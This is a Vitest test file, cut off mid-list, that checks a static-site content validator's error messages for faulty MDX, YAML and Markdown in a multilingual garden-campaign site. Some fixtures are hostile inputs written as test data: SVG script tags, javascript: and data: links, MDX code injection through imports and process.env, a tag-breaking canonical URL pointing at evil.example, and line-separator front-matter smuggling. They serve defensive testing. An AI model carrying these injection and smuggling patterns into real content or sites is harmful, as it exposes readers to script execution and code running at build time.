import { existsSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, test } from 'vitest';
import { mdxToJs } from 'satteri';
import { refuseCode } from '../../src/integrations/refuse-code.ts';
import { readCampaign } from '../../src/campaign/read-campaign.ts';
import {
  buildInto,
  changeGarden,
  makeFolder,
  swap,
  tryBuild,
  type Changes,
  withOwnId,
} from '../helpers/build.ts';
import type { NodeOutcome } from '../helpers/run-node.ts';

const watering = 'guides/en/watering.mdx';
const frost = 'updates/en/2023/frost.md';
const rain = 'updates/en/2024/first-rain.md';

/** A leaflet without a fault. */
const leaflet = readFileSync('tests/fixtures/leaflet.yaml', 'utf8');

/**
 * What an editor can get wrong, and what the message must say: place, what was found, what was
 * expected, how to fix it.
 */
const readingFaults: [name: string, changes: Changes, expected: string[]][] = [
  [
    'a missing field',
    { [watering]: swap('title: Watering\n', '') },
    [
      'guides/en/watering.mdx',
      'field "title"',
      'found     nothing',
      'expected  a text',
      'add the field "title"',
    ],
  ],
  [
    'a field that nothing reads',
    { [watering]: swap('state: live', 'status: live\nstate: live') },
    [
      'guides/en/watering.mdx:4',
      'field "status"',
      'a field that nothing reads',
      'did you mean "state"?',
    ],
  ],
  [
    'a state that is none',
    { [watering]: swap('state: live', 'state: alive') },
    [
      'guides/en/watering.mdx:4',
      '"alive"',
      'one of live, archived, dangerous, unverified',
      'did you mean "live"?',
    ],
  ],
  [
    'a date that is none',
    { [watering]: swap('checked: 2025-03-02', 'checked: 2025-02-30') },
    ['guides/en/watering.mdx:7', '"2025-02-30"', 'a day of the calendar: YYYY-MM-DD'],
  ],
  [
    'a partial date that is none',
    { [frost]: swap('date: "2023"', 'date: "last spring"') },
    ['updates/en/2023/frost.md:9', '"last spring"', 'YYYY, YYYY-MM or YYYY-MM-DD'],
  ],
  [
    'a description that is too short',
    {
      [watering]: swap(
        'description: How much water the beds of the garden need, and at which hour.',
        'description: Water.',
      ),
    },
    ['watering.mdx:3', 'at least 40 characters'],
  ],
  [
    'YAML that is none',
    { 'dates/week.yaml': swap('text: { en: Each year. }', 'text: [') },
    ['dates/week.yaml', 'expected  YAML', 'in double quotes'],
  ],
  [
    'a page without front matter',
    { 'guides/en/bare.md': 'Just words.\n' },
    ['guides/en/bare.md:1', '"Just words.', 'a first line "---"'],
  ],
  [
    'an unknown language of a folder',
    { 'guides/xx/watering.mdx': 'x' },
    ['guides/xx/watering.mdx', 'the language "xx"', 'a language of site.yaml: en, ar'],
  ],
  [
    'an unknown language of a text',
    { 'dates/week.yaml': swap('ar: بداية', 'fa: بداية') },
    ['dates/week.yaml', 'field "title.fa"', 'a language of site.yaml: en, ar'],
  ],
  [
    'a record without the main language',
    { 'dates/week.yaml': swap('en: Garden week begins, ', '') },
    ['dates/week.yaml', 'field "title"', 'the main language'],
  ],
  [
    'a duplicate slug',
    { 'guides/en/watering.md': readFileSync(`tests/fixtures/garden/${watering}`, 'utf8') },
    ['guides/en/watering.mdx', 'the same name as guides/en/watering.md', 'rename one of the two'],
  ],
  [
    'a name that is no address',
    { 'updates/en/First_Rain.md': 'x' },
    [
      'updates/en/First_Rain.md',
      'the name "First_Rain"',
      'a-z, 0-9 and single hyphens',
      'rename the file',
    ],
  ],
  [
    'a record that does not exist',
    { 'actions/water-a-bed.yaml': swap('[rake-club]', '[rake-clb]') },
    [
      'actions/water-a-bed.yaml',
      'field "initiatives.0"',
      '"rake-clb"',
      'did you mean "rake-club"?',
    ],
  ],
  [
    'a subject that does not exist',
    { [rain]: swap('[weather]', '[wether]') },
    [
      'updates/en/2024/first-rain.md',
      'field "subjects.0"',
      '"wether"',
      'the file name of one of the subjects',
      'did you mean "weather"?',
    ],
  ],
  [
    'an event of an update that does not exist',
    { 'dates/frost.yaml': swap('update: 2023/frost', 'update: 2022-frost') },
    ['dates/frost.yaml:6', 'field "update"', 'did you mean "2023/frost"?'],
  ],
  [
    'an event that ends before it begins',
    { 'dates/frost.yaml': swap('until: "2023-04-22"', 'until: "2023-04-19"') },
    ['dates/frost.yaml:3', 'field "until"', 'a date after "date"'],
  ],
  [
    'numbers that differ between the languages of a subject',
    {
      'subjects/weather.yaml': swap(
        'What came from above.',
        'What came in 2023., ar: ما جاء في 2024.',
      ),
    },
    ['subjects/weather.yaml:2', 'en has 2023, ar has 2024'],
  ],
  [
    'a translation about another subject',
    {
      'updates/ar/2024/first-rain.md': withOwnId(
        readFileSync(`tests/fixtures/garden/${rain}`, 'utf8'),
        'ar',
      ).replace('subjects: [weather]', 'translation: { of: 2, checked: false }'),
    },
    [
      'updates/ar/2024/first-rain.md',
      'field "subjects"',
      '["weather"], as in updates/en/2024/first-rain.md',
    ],
  ],
  [
    'one address in two records of the register',
    { 'sites/rakes.yaml': swap('"https://rakes.example/"', '"https://t.example/rakes"') },
    ['https://t.example/rakes', 'a value that no other site has'],
  ],
  [
    'an address of an initiative that does not exist',
    { 'sites/rakes.yaml': swap('rake-club', 'rake-clb') },
    ['sites/rakes.yaml:3', 'field "initiative"', 'did you mean "rake-club"?'],
  ],
  [
    'a guide that the main language lacks',
    {
      'guides/en/watering.mdx': null,
      'guides/ar/watering.mdx': (text) => text.replace(/translation: .*\n/, ''),
    },
    ['guides/ar/watering.mdx', 'a guide without a version in en'],
  ],
  [
    'no strings of a language',
    { 'interface/ar.yaml': null },
    ['interface/ar.yaml', 'the strings of the interface in each language'],
  ],
  [
    'an image that is absent',
    { [frost]: (text) => `${text}\n![Ice](./ice.jpg)\n` },
    ['updates/en/2023/frost.md:17', 'image ./ice.jpg', 'no file updates/en/2023/ice.jpg'],
  ],
  [
    'an image that is broken',
    {
      [frost]: (text) => `${text}\n![Ice](./ice.jpg)\n`,
      'updates/en/2023/ice.jpg': Buffer.from('no image at all'),
    },
    ['updates/en/2023/ice.jpg', 'a file that is not a whole image'],
  ],
  [
    'an image at another host',
    { [frost]: (text) => `${text}\n![Ice](https://ice.example/a.jpg)\n` },
    ['2023/frost.md:17', 'an image at another host', 'would learn who reads'],
  ],
  [
    'an import in MDX',
    { [watering]: (text) => `${text}\nimport fs from 'node:fs'\n` },
    ['guides/en/watering.mdx:37', "code: import fs from 'node:fs'", 'content is data'],
  ],
  [
    'an export in MDX',
    { [watering]: (text) => `${text}\nexport const a = 1\n` },
    ['watering.mdx:37', 'code: export const a = 1'],
  ],
  [
    'an expression in MDX',
    { [watering]: (text) => `${text}\n{process.env.HOME}\n` },
    ['watering.mdx:37', 'code: process.env.HOME', '&#123;'],
  ],
  [
    'an expression inside a line',
    { [watering]: (text) => `${text}\nThere are {40 + 2} beds.\n` },
    ['watering.mdx:37', 'code: 40 + 2'],
  ],
  [
    'an expression in an attribute',
    { [watering]: swap('kind="warning"', 'kind={"warning"}') },
    ['watering.mdx:15', 'code: <Notice kind=…>'],
  ],
  [
    'spread attributes',
    { [watering]: swap('kind="warning"', '{...process.env}') },
    ['watering.mdx:15', 'code: <Notice {…}=…>'],
  ],
  [
    'an unknown component',
    { [watering]: swap('<Action id', '<Acton id') },
    ['watering.mdx:31', '<Acton>', 'did you mean <Action>?'],
  ],
  [
    'a component with a wrong attribute',
    { [watering]: swap('kind="warning"', 'kind="alarm"') },
    ['watering.mdx:15', '<Notice kind="alarm">', 'one of note, warning, archive'],
  ],
  [
    'a component for no record',
    { [watering]: swap('id="litres"', 'id="liters"') },
    ['watering.mdx:29', '<Chart id="liters">', 'did you mean "litres"?'],
  ],
  [
    'an action in a text that is over',
    { [watering]: swap('id="water-a-bed"', 'id="plant-mint"') },
    ['watering.mdx:31', '<Action id="plant-mint">, which is archived', 'in the archive only'],
  ],
  [
    'an action on a leaflet that is over',
    { 'leaflets/mint.yaml': leaflet.replace('water-a-bed', 'plant-mint') },
    [
      'leaflets/mint.yaml:5',
      'field "actions.0"',
      '"plant-mint", which is archived',
      'an action that is live',
    ],
  ],
  [
    'a leaflet that paper has no room for',
    {
      'leaflets/mint.yaml': leaflet.replace(
        'Anywhere.',
        Array(3).fill('Anywhere. '.repeat(30).trim()).join(', '),
      ),
    },
    ['leaflets/mint.yaml', 'field "text.en"', 'at most 800 characters'],
  ],
  [
    'a code that no cheap phone reads',
    { 'leaflets/mint.yaml': leaflet.replace('Mint. }', `${'ж'.repeat(260)} }`) },
    ['leaflets/mint.yaml', 'field "code.en"', 'at most 500 bytes'],
  ],
  [
    'a component left open',
    { [watering]: swap('</Notice>', '') },
    ['guides/en/watering.mdx', 'close what is open'],
  ],
  [
    'HTML in MDX',
    { [watering]: (text) => `${text}\n<iframe src="https://video.example/"></iframe>\n` },
    ['watering.mdx:37', '<iframe>', 'one of the components'],
  ],
  [
    'HTML in markdown',
    { [frost]: (text) => `${text}\n<script src="https://count.example/c.js"></script>\n` },
    ['2023/frost.md:17', 'found     <script src=', 'would tell it who reads'],
  ],
  [
    'a second title',
    { [frost]: (text) => `${text}\n# Frost\n` },
    ['2023/frost.md:17', 'headings from ## down'],
  ],
  [
    'a translation of nothing',
    {
      'guides/en/watering.mdx': swap(
        'version: 2',
        'version: 2\ntranslation: { of: 1, checked: false }',
      ),
    },
    ['only translations of this page'],
  ],
  [
    'two originals',
    { 'guides/ar/watering.mdx': (text) => text.replace(/translation: .*\n/, '') },
    ['guides/ar/watering.mdx', 'two originals'],
  ],
  [
    'a translation of a later version than there is',
    { 'guides/ar/watering.mdx': swap('of: 1', 'of: 3') },
    ['guides/ar/watering.mdx', 'field "translation.of"', 'at most 2'],
  ],
  [
    'numbers that differ between the languages of a record',
    { 'dates/week.yaml': swap('text: { en: Each year. }', 'text: { en: In 2019., ar: في 2018. }') },
    ['dates/week.yaml:4', 'en has 2019, ar has 2018'],
  ],
  [
    'a decision without its source',
    {
      'sites/rakes.yaml': swap('decisions: []', 'decisions: [{ kind: weeds, until: 2030-03-01 }]'),
    },
    ['sites/rakes.yaml', 'field "designation.decisions.0.source"'],
  ],
  [
    'a decision of a kind that has no name',
    {
      'sites/rakes.yaml': swap(
        'decisions: []',
        'decisions: [{ kind: weds, source: { name: The gardeners }, until: 2030-03-01 }]',
      ),
    },
    [
      'sites/rakes.yaml:6',
      'field "designation.decisions.0.kind"',
      '"weds"',
      'did you mean "weeds"?',
    ],
  ],
  [
    'an address that is both banned and free',
    {
      'sites/rakes-channel.yaml': swap(
        'cleared:',
        'decisions: [{ kind: weeds, source: { name: The gardeners }, until: 2030-03-01 }], cleared:',
      ),
    },
    ['sites/rakes-channel.yaml', 'field "designation.cleared"', '"decisions" alone'],
  ],
  [
    'what works without a sign of life',
    {
      'initiatives/rake-club.yaml': swap('alive: { date: "2025-01", source: The gardeners }\n', ''),
    },
    [
      'initiatives/rake-club.yaml',
      'field "alive"',
      'the newest sign of life',
      'or state: unverified',
    ],
  ],
  [
    'an address that works without a sign of life',
    { 'sites/rakes.yaml': swap('alive: { date: "2025-01", source: The gardeners }\n', '') },
    ['sites/rakes.yaml', 'field "alive"', 'the newest sign of life'],
  ],
  [
    'a call for money without its risks',
    { 'actions/water-a-bed.yaml': swap('kind: care', 'kind: give') },
    [
      'actions/water-a-bed.yaml',
      'field "risk"',
      'what it can cost both sides',
      'names of files in notices/',
    ],
  ],
  [
    'an action that costs money without its risks',
    { 'actions/water-a-bed.yaml': swap('kind: care', 'kind: care\npays: true') },
    ['actions/water-a-bed.yaml', 'field "risk"', 'what it can cost both sides'],
  ],
  [
    'an initiative that takes money without its risks',
    { 'initiatives/rake-club.yaml': swap('cost: free', 'cost: donations') },
    ['initiatives/rake-club.yaml', 'field "risk"', 'what it can cost both sides'],
  ],
  [
    'an action through what takes money, without a word on it',
    {
      'initiatives/rake-club.yaml': swap(
        'cost: free',
        'cost: money\nrisk: { payer: wet-feet, recipient: wet-feet }',
      ),
    },
    [
      'actions/water-a-bed.yaml:7',
      'field "initiatives.0"',
      'which takes money, and no word on money',
      '"pays: false"',
    ],
  ],
  [
    'an action through what is over',
    { 'initiatives/rake-club.yaml': swap('state: live', 'state: archived') },
    [
      'actions/water-a-bed.yaml:7',
      '"rake-club", which is archived',
      'make the action archived too',
    ],
  ],
  [
    'a risk that is not there',
    {
      'actions/water-a-bed.yaml': swap(
        'notices:',
        'risk: { payer: wet-fet, recipient: wet-feet }\nnotices:',
      ),
    },
    ['actions/water-a-bed.yaml', 'field "risk.payer"', 'did you mean "wet-feet"?'],
  ],
  [
    'a notice that is not there',
    { 'actions/water-a-bed.yaml': swap('[wet-feet]', '[wet-fet]') },
    [
      'actions/water-a-bed.yaml',
      'field "notices.0"',
      'one of the notices',
      'did you mean "wet-feet"?',
    ],
  ],
  [
    'an action on a leaflet for which one pays',
    {
      'leaflets/mint.yaml': leaflet,
      'actions/water-a-bed.yaml': swap(
        'kind: care',
        'kind: give\nrisk: { payer: wet-feet, recipient: wet-feet }',
      ),
    },
    ['leaflets/mint.yaml:5', '"water-a-bed", for which one pays', 'paper has no room'],
  ],
  [
    'a statement of the directory without a source',
    { 'initiatives/rake-club.yaml': swap(', cites: [book] }]', ', cites: [] }]') },
    ['initiatives/rake-club.yaml', 'field "today.0.cites"', 'a claim without a source is left out'],
  ],
  [
    'a statement of the directory with a source that is not there',
    { 'initiatives/rake-club.yaml': swap(', cites: [book] }]', ', cites: [bok] }]') },
    ['initiatives/rake-club.yaml', 'field "today.0.cites.0"', 'did you mean "book"?'],
  ],
  [
    'a source of the directory that nothing cites',
    { 'initiatives/rake-club.yaml': swap('date: "2020" }]', 'date: "2020" }, { name: Another }]') },
    ['initiatives/rake-club.yaml', 'field "sources.1"', 'a source without an id'],
  ],
  [
    'a clearance that nobody has to look at again',
    { 'sites/rakes-channel.yaml': swap(', until: 2030-03-01', '') },
    ['sites/rakes-channel.yaml', 'field "designation.cleared.until"'],
  ],
  [
    'a clearance that expires before it was found',
    { 'sites/rakes-channel.yaml': swap('until: 2030-03-01', 'until: 2024-03-01') },
    ['sites/rakes-channel.yaml', 'field "designation.cleared.until"', 'a day after "date"'],
  ],
  [
    'a designation that says itself what it amounts to',
    { 'sites/rakes-channel.yaml': swap('designation: {', 'designation: { status: none,') },
    ['sites/rakes-channel.yaml', 'field "designation.status"', 'a field that nothing reads'],
  ],
  [
    'an address that is free though its owner is banned',
    {
      'initiatives/rake-club.yaml': swap(
        'decisions: []',
        'decisions: [{ kind: weeds, date: "2024", source: { name: The gardeners }, until: 2030-03-01 }]',
      ),
      'sites/rakes.yaml': swap(
        'decisions: []',
        'cleared: { date: "2024", source: The gardeners, until: 2030-03-01 }',
      ),
    },
    [
      'sites/rakes.yaml:6',
      'field "designation.cleared"',
      'one that is called free',
      'initiatives/rake-club.yaml is designated',
    ],
  ],
  [
    'an action without the reason why it is over',
    { 'actions/plant-mint.yaml': swap('reason: { en: It took over the garden. }\n', '') },
    ['actions/plant-mint.yaml', 'a reason, since the action is not live'],
  ],
  [
    'an ornament that runs a script',
    {
      'leaf.svg':
        '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 8 8"><script>alert(1)</script></svg>',
    },
    ['leaf.svg', 'only <path>, <rect>, <circle> or <polygon>'],
  ],
  [
    'an ornament that is absent',
    { 'site.yaml': swap('leaf.svg', 'tree.svg') },
    ['site.yaml', 'no file "tree.svg"'],
  ],
  [
    'an incomplete interface',
    { 'interface/ar.yaml': swap('  skip: إلى النص\n', '') },
    ['interface/ar.yaml', 'field "nav.skip"'],
  ],
  [
    'a string of the interface that lost its brace',
    { 'interface/ar.yaml': swap('Last checked {date}', 'Last checked') },
    ['interface/ar.yaml', 'field "page.checked"', 'a text with {date} in it'],
  ],
  [
    'a missing page of the engine',
    { 'guides/en/about.mdx': null },
    ['guides/en/about.mdx', 'no such file'],
  ],
  [
    'code in a second front matter',
    {
      [watering]: swap(
        '---\n\n## When',
        '---\n---\nimport { writeFileSync } from "node:fs"\nexport const a = 1\n\n---\n\n## When',
      ),
    },
    ['guides/en/watering.mdx', 'content is data'],
  ],
  [
    'code behind an end of line that only some see',
    { [watering]: swap('date: "2020" }]', 'date: "2020" }] #\u2028---\nlayout: ../../L.astro') },
    ['guides/en/watering.mdx:1', 'ordinary ends of lines'],
  ],
  [
    'code behind an end of fields that only some see',
    { [watering]: swap('title: Watering', 'title: "Wa\n---tering"') },
    ['guides/en/watering.mdx', 'a first line "---"'],
  ],
  [
    'HTML between comments',
    {
      [frost]: (text) =>
        `${text}\n<!-- --><div data-outbound="rake-club"><a href="https://rakes.example/">give</a></div><!-- -->\n`,
    },
    ['2023/frost.md:17', 'markdown, without HTML'],
  ],
  [
    'an image that the bundler would read as code',
    {
      [frost]: (text) => `${text}\n![Ice](./ice.js?x.png)\n`,
      'updates/en/2023/ice.js': 'export default 1',
    },
    [
      '2023/frost.md:17',
      'the address ./ice.js?x.png',
      'updates/en/2023/ice.js\n  found     a file that nothing reads',
    ],
  ],
  [
    'an image named as a package',
    { [watering]: (text) => `${text}\n![Ice](ice.png)\n` },
    ['watering.mdx:37', 'the address ice.png', 'write it as ./ice.png'],
  ],
  [
    'an image by way of the bundler’s own names',
    { [watering]: (text) => `${text}\n![Ice](@campaign/../ice.png)\n` },
    ['watering.mdx:37', 'the address @campaign/../ice.png'],
  ],
  [
    'a package of code',
    { 'guides/en/node_modules/ice.png/package.json': '{}' },
    ['guides/en/node_modules/ice.png/package.json', 'a file that nothing reads'],
  ],
  [
    'a text in an old encoding',
    { [frost]: Buffer.from([0x2d, 0x2d, 0x2d, 0x0a, 0xc7, 0xe8, 0xec, 0xe0]) },
    ['updates/en/2023/frost.md', 'bytes that are not UTF-8', 'save it as UTF-8'],
  ],
  [
    'a list to tick',
    { [frost]: (text) => `${text}\n- [ ] task\n` },
    ['2023/frost.md:17', 'a box to tick'],
  ],
  [
    'an empty warning',
    { 'guides/ar/watering.mdx': swap('\nليس عند الظهر.\n', '') },
    ['guides/ar/watering.mdx', 'an empty <Notice>'],
  ],
  [
    'a string of the interface without a letter',
    { 'interface/en.yaml': swap('  sign: Banned in the garden', '  sign: " "') },
    ['interface/en.yaml', 'field "designation.sign"', 'a text with letters'],
  ],
  [
    'a language of an initiative that is none',
    { 'initiatives/rake-club.yaml': swap('languages: [en]', 'languages: [English (partly)]') },
    ['initiatives/rake-club.yaml', 'field "languages.0"', 'a language tag such as en'],
  ],
  [
    'a YAML tag that means something elsewhere',
    { [watering]: swap('title: Watering', 'title: !foo Watering') },
    ['guides/en/watering.mdx:2', 'expected  YAML'],
  ],
  [
    'a prefix that is not as browsers write it',
    { 'sites/rakes.yaml': swap('https://rakes.example/', 'https://rakes.example/./') },
    ['sites/rakes.yaml', 'as browsers write it'],
  ],
  [
    'a mirror with a contact in its address',
    {
      'mirrors/shed.yaml': swap(
        'https://shed.example/garden/',
        '"https://shed.example/ or @rake_club"',
      ),
    },
    ['mirrors/shed.yaml', 'an address'],
  ],
  [
    'a canonical address that ends a tag',
    {
      'site.yaml': (text) =>
        `${text}canonical: "https://a.example/</link><link>https://evil.example/"\n`,
    },
    ['site.yaml', 'field "canonical"', 'an address alone'],
  ],
  [
    'a footnote',
    { [frost]: (text) => `${text}\nCold.[^1]\n\n[^1]: Very.\n` },
    ['2023/frost.md:17', 'a footnote'],
  ],
  [
    'an image that could hold a script',
    {
      [frost]: (text) => `${text}\n![Ice](./ice.svg)\n`,
      'updates/en/2023/ice.svg':
        '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    },
    ['2023/frost.md:17', 'the ending of updates/en/2023/ice.svg', 'could hold a script'],
  ],
  [
    'an image of another kind than its ending',
    {
      [frost]: (text) => `${text}\n![Ice](./ice.png)\n`,
      'updates/en/2023/ice.png':
        '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>alert(1)</script></svg>',
    },
    ['updates/en/2023/ice.png', 'an image of the kind svg'],
  ],
  [
    'a translation that says what it touches',
    { 'guides/ar/watering.mdx': swap('state: live', 'state: live\ntouches: [money]') },
    ['guides/ar/watering.mdx:5', 'field "touches"', 'a translation touches what its original does'],
  ],
  [
    'a translation of a record’s later version than there is',
    {
      'actions/plant-mint.yaml': swap(
        'where:',
        'translations: { ar: { of: 2, checked: false } }\nwhere:',
      ),
    },
    [
      'actions/plant-mint.yaml',
      'field "translations.ar.of"',
      'at most 1, the version of the record',
    ],
  ],
  [
    'a record that is translated into its own language',
    {
      'actions/plant-mint.yaml': swap(
        'where:',
        'translations: { en: { of: 1, checked: false } }\nwhere:',
      ),
    },
    ['actions/plant-mint.yaml', 'field "translations.en"', 'that is translated into: ar'],
  ],
  [
    'a translation in another state',
    { 'guides/ar/watering.mdx': swap('state: live', 'state: dangerous') },
    ['guides/ar/watering.mdx:4', 'found     "dangerous"', '"live", as in guides/en/watering.mdx'],
  ],
  [
    'a record less in a translation',
    { 'guides/ar/watering.mdx': swap('<Action id="water-a-bed" />', '') },
    ['guides/ar/watering.mdx', '<Action:water-a-bed>, as in guides/en/watering.mdx'],
  ],
  [
    'a translation with another number',
    { 'guides/ar/watering.mdx': swap('12', '21') },
    ['guides/ar/watering.mdx', 'numbers', '21', ', as in guides/en/watering.mdx'],
  ],
  [
    'a translation without the warning',
    { 'guides/ar/watering.mdx': swap('kind="warning"', 'kind="note"') },
    ['guides/ar/watering.mdx', '<Notice:note>', '<Notice:warning>, as in guides/en/watering.mdx'],
  ],
  [
    'a translation that leads elsewhere',
    { 'guides/ar/home.mdx': swap('/guide/watering.html', '/guide/digging.html') },
    [
      'guides/ar/home.mdx',
      'links',
      '/guide/digging.html',
      '/guide/watering.html, as in guides/en/home.mdx',
    ],
  ],
  [
    'a translation with other sources',
    { 'guides/ar/watering.mdx': swap('date: "2020"', 'date: "2021"') },
    ['guides/ar/watering.mdx:8', 'sources of 2021', 'sources of 2020'],
  ],
  [
    'a translation with a number in its title',
    { 'guides/ar/watering.mdx': swap('title: الري', 'title: الري 500') },
    ['guides/ar/watering.mdx:2', 'the numbers 500'],
  ],
  [
    'numbers that differ in what a ban is called',
    { 'site.yaml': swap('{ en: a list of weeds, ar: قائمة }', '{ en: Law 5, ar: قانون 6 }') },
    ['site.yaml', 'en has 5, ar has 6'],
  ],
  [
    'a language twice',
    { 'site.yaml': swap('{ tag: ar, name: العربية, direction: rtl }', '{ tag: en, name: Again }') },
    ['site.yaml', 'each language once'],
  ],
  [
    'a language that is none',
    { 'site.yaml': swap('locale: en-GB', 'locale: en-12') },
    ['site.yaml', '"en-12"', 'a language tag'],
  ],
  [
    'a YAML file that unfolds without end',
    { 'dates/week.yaml': 'a: &a [x, *a]\n' },
    ['dates/week.yaml:1', 'expected  YAML'],
  ],
  [
    'a folder of a name that objects have',
    { 'constructor/x.yaml': 'a: 1\n', 'dates/week.yaml': swap('05-01', '13-01') },
    ['dates/week.yaml'],
  ],
  [
    'a phrase without its language',
    { [watering]: (text) => `${text}\nIt is <Phrase>Wasser</Phrase>.\n` },
    ['guides/en/watering.mdx:37', '<Phrase> without lang', 'name the language of the words'],
  ],
  [
    'a phrase in a language that is none',
    { [watering]: (text) => `${text}\nIt is <Phrase lang="German">Wasser</Phrase>.\n` },
    ['guides/en/watering.mdx:37', '<Phrase lang="German">', 'the tag of a language'],
  ],
  [
    'a phrase that is a whole paragraph',
    { [watering]: (text) => `${text}\n<Phrase lang="de">Wasser</Phrase>\n` },
    ['guides/en/watering.mdx:37', 'a whole paragraph', 'put quotation marks around it'],
  ],
  [
    'a button without an action or a link',
    { [watering]: (text) => `${text}\n<Button />\n` },
    ['guides/en/watering.mdx:37', '<Button> without id', 'write the attribute'],
  ],
  [
    'a button around more than a link',
    { [watering]: (text) => `${text}\n<Button>\n\nSee [this](/day.html)\n\n</Button>\n` },
    ['guides/en/watering.mdx:37', '<Button> around something else', 'write [words](/page.html)'],
  ],
  [
    'a button with two aims',
    { [watering]: (text) => `${text}\n<Button id="x">\n\n[Day](/day.html)\n\n</Button>\n` },
    ['guides/en/watering.mdx:37', '<Button id=…>', 'none around a link'],
  ],
  [
    'a phrase set by the rules of the page',
    { [watering]: (text) => `${text}\nIt is <Phrase lang="fr">de l’eau ?</Phrase> now.\n` },
    ['guides/en/watering.mdx:37', 'as fr sets it', 'write [narrow no-break space]?'],
  ],
  [
    'a word list out of order',
    { 'words/en.txt': 'zwack\nZwiebel\n' },
    ['words/en.txt:2', '"Zwiebel"', 'in the order of their code points', 'LC_ALL=C sort -u'],
  ],
  [
    'a remark in a word list',
    { 'words/en.txt': 'zwack # a tool\n' },
    ['words/en.txt:1', 'one word a line'],
  ],
  [
    'a word list of no language',
    { 'words/english.txt': 'zwack\n' },
    ['words/english.txt', 'a file that nothing reads'],
  ],
  [
    'a straight quotation mark in a text',
    { [frost]: (text) => `${text}\nIt “held”,\nso they "said".\n` },
    [
      'updates/en/2023/frost.md:18\n  found     " in: …t “held”, so they "said".',
      'quotation marks “…”, and within a quotation ‘…’, as en sets it',
      'write “',
    ],
  ],
  [
    'two spaces in a record',
    { 'actions/plant-mint.yaml': swap('It took over the garden.', 'It took over.  Yes.') },
    ['actions/plant-mint.yaml', 'field "reason.en"', 'one space, not two'],
  ],
  [
    'a typewriter’s apostrophe in a title',
    { [frost]: (text) => text.replace(/title: .*/, 'title: "The frost\'s week"') },
    ['updates/en/2023/frost.md:2', 'field "title"', 'the apostrophe, a curved one'],
  ],
  [
    'a citation of a source that is not there',
    { [watering]: swap('<Source id="book" />', '<Source id="bok book" />') },
    ['guides/en/watering.mdx:13', '<Source id="bok">', 'did you mean "book"?'],
  ],
  [
    'a citation without a source',
    { [watering]: swap('<Source id="book" />', '<Source />') },
    ['guides/en/watering.mdx:13', '<Source> without id'],
  ],
  [
    'a source that nothing cites',
    { [watering]: swap(' <Source id="book" />', '') },
    ['guides/en/watering.mdx:8', 'field "sources.0.id"', '"book", which no sentence cites'],
  ],
  [
    'a translation that cites another source',
    { 'guides/ar/watering.mdx': swap('<Source id="book" />', '<Source id="book book" />') },
    ['guides/ar/watering.mdx', 'cites none more; this one book', 'cite what the original cites'],
  ],
  [
    'two sources of one id',
    { [watering]: swap('date: "2020" }]', 'date: "2020" }, { id: book, name: Another }]') },
    [
      'guides/en/watering.mdx:8',
      'field "sources.1.id"',
      'an id that no other source of this file has',
    ],
  ],
  [
    'a translation whose source has another id',
    {
      'guides/ar/watering.mdx': (text) =>
        text.replaceAll('book,', 'bok,').replace('id="book"', 'id="bok"'),
    },
    ['guides/ar/watering.mdx:8', 'sources of 2020/ (bok)', 'sources of 2020/ (book)'],
  ],
  [
    'a canonical address that is none',
    { 'site.yaml': (text) => `${text}canonical: garden.example\n` },
    ['site.yaml', 'field "canonical"', 'an address'],
  ],
];

describe('a campaign with', () => {
  test.each(readingFaults)(
    '%s is refused with place, finding and fix',
    async (_name, changes, expected) => {
      const folder = changeGarden(changes);
      const message = await readCampaign(folder, 'the-campaign').then(
        () => 'nothing was refused',
        (error: Error) => error.message,
      );
      for (const part of expected) expect(message).toContain(part);
      expect(message).toContain('to fix');
      expect(message).not.toContain(folder);
    },
  );
});

/** Faults that show only in the finished pages: each stops the real build. */
const builtFaults: [name: string, changes: Changes, expected: string[]][] = [
  [
    'a link to a page that does not exist',
    { [frost]: (text) => `${text}\nSee [this](/guide/wattering.html).\n` },
    [
      'updates/en/2023/frost.md:17',
      'a link to /guide/wattering.html, which is no page',
      'did you mean /guide/watering.html?',
    ],
  ],
  [
    'a link to a place that does not exist',
    { [frost]: (text) => `${text}\nSee [this](/guide/watering.html#whence).\n` },
    ['2023/frost.md:19', '#whence'],
  ],
  [
    'an unregistered outside link',
    { [frost]: (text) => `${text}\nSee [this](https://rakes.example.evil.net/).\n` },
    [
      '2023/frost.md:21',
      'a link to https://rakes.example.evil.net/',
      'a prefix of a file in sites/',
    ],
  ],
  [
    'a link that borrows a registered name',
    { [frost]: (text) => `${text}\nSee [this](https://t.example/rakes2).\n` },
    ['a link to https://t.example/rakes2'],
  ],
  [
    'an address of the kind data:',
    { [frost]: (text) => `${text}\nSee [this](data:text/html;base64,PHA+).\n` },
    ['2023/frost.md:25', 'a link to data:text/html'],
  ],
  [
    'another account under a registered address',
    { [frost]: (text) => `${text}\nSee [this](https://t.example/rakes?account=me).\n` },
    ['2023/frost.md:27', 'an address without "?" and "#"', 'link to https://t.example/rakes'],
  ],
  [
    'a link with a broken percent sign',
    { [frost]: (text) => `${text}\nSee [this](/guide/%zz.html).\n` },
    ['2023/frost.md:29', '/guide/%zz.html, which is no page'],
  ],
  [
    'an address as plain text',
    {
      'actions/plant-mint.yaml': swap(
        'It took over the garden.',
        'It took over t.example/rakes_fake then.',
      ),
    },
    ['actions/plant-mint.yaml:7', 'an outside address: t.example/rakes_fake'],
  ],
  [
    'a contact in a string of the search box',
    {
      'interface/en.yaml': swap(
        'placeholder: letters',
        'placeholder: call +44 20 7946 0019, letters',
      ),
    },
    ['interface/en.yaml', 'a telephone number: +44 20 7946 0019'],
  ],
  [
    'two places of one name',
    { [frost]: (text) => `${text}\n## Late\n\n## Late\n`, [watering]: swap('## Who', '## Litres') },
    ['guides/en/watering.mdx', 'two places called "litres"'],
  ],
  [
    'a script address',
    { [frost]: (text) => `${text}\nSee [this](javascript:alert(1)).\n` },
    ['2023/frost.md:35', 'a link to javascript:alert(1)'],
  ],
  [
    'a telephone number',
    { [frost]: (text) => `${text}\nCall +44 20 7946 0018 now.\n` },
    ['2023/frost.md:37', 'a telephone number: +44 20 7946 0018', 'records only'],
  ],
  [
    'an e-mail address',
    { [frost]: (text) => `${text}\nWrite to frost@garden.example please.\n` },
    ['2023/frost.md:39', 'frost@garden.example'],
  ],
  [
    'a wallet',
    {
      'actions/plant-mint.yaml': swap(
        'Readers were asked to plant mint.',
        'Send to 0x52908400098527886E0F7030069857D2E4169EE7.',
      ),
    },
